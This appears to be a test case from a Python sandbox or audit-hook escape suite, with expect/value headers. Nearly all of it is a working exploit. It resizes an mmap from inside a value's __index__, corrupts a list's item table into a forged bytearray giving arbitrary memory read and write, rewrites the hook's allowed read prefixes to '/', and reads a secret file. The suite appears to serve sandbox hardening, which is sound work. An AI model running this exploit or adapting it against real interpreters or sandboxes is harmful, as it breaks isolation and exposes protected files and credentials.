# expect: ok
# expect-kernel: ok|crashed|memory_limit
# value: 1
# `mmap.mmap` stores an item (`m[i] = v`) by checking the index against the map's size, then asking the value for its
# number (`__index__`: Python code of the code's own), then writing at that index into whatever the map's data pointer
# covers by then: a value that shrinks the map from its `__index__` (`m.resize`, a `mremap` that keeps the first page
# and unmaps the rest) makes the write land in the hole the map left, where the next mapping the process makes takes
# its place (the kernel hands out the highest gap that fits). Here that mapping is a list's table of items (over glibc's
# largest mmap threshold, so always a mapping of its own, placed at the top of the hole), and the byte written is the
# low byte of its first item: it then names a forged bytearray header (size 2**62, data at address 0) inside a bytes
# object of the code's own, so any address is read and written, with no audit event. From there the hook's frozen read
# prefixes (the frame of a refusal it makes unreported hands them out) gain "/", and the secret file is read where the
# hook is what guards it. The forty-fourth round's pass over C code that writes where a value moved the memory left
# `mmap` out (`array`'s twin of this write is sealed). With the hook the value is converted while the map is exported,
# which refuses its resize, so nothing moves under the write (1); without it native code is assumed anyway.
import mmap
import os
import struct

HELD = []  # every object the forged pointer or the table touches, kept for good
PAGE = mmap.PAGESIZE
PAGES = 8193  # the table's mapping: just over glibc's largest dynamic mmap threshold (32 MiB)
ITEMS = (PAGE * PAGES - 32) // 8  # malloc's chunk, its 16-byte header included, fills the pages exactly
FAKE = struct.pack("<7q", 1 << 40, id(bytearray), 2**62, 2**62, 0, 0, 0)  # refcount, type, size, alloc, bytes, start


def window():
    """A bytearray header of the code's own making, over all memory, reached through a list item it rewrote."""
    bodies = [b"\0" * 8 + FAKE + b"\0" * 240 for _ in range(64)]
    HELD.append(bodies)
    body = next((b for b in bodies if id(b) % 256 + 32 + 8 + len(FAKE) <= 256), None)
    if body is None:
        return None
    fake_at = id(body) + 32 + 8  # past the bytes header and 8 bytes of the body: one byte away from `body` itself
    target = mmap.mmap(-1, PAGE * (PAGES + 2))
    table = []

    class Shrinker:
        def __index__(self):
            target.resize(PAGE)  # the tail goes; the table's own mapping takes its top
            table.append([body] * ITEMS)
            return fake_at % 256

    try:
        target[2 * PAGE + 16] = Shrinker()  # the low byte of the table's first item
    except Exception:
        return None
    HELD.append(table)
    item = table[0][0]
    return item if item is not body and type(item) is bytearray else None


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    memory = window()
    if memory is None or frame is None:  # sealed, or no hook here: native code is assumed anyway
        return 1
    prefixes, root = frame.f_locals["read_prefixes"], "/"
    at = id(prefixes) + 24  # the tuple's first item
    memory[at:at + 8] = id(root).to_bytes(8, "little")
    try:
        with open(secret_file) as fh:
            return "SANDBOX-ESCAPED an mmap resized under its own write: " + fh.read()
    except OSError:
        return "SANDBOX-ESCAPED raw memory with the hook running, through an mmap resized under its own write"
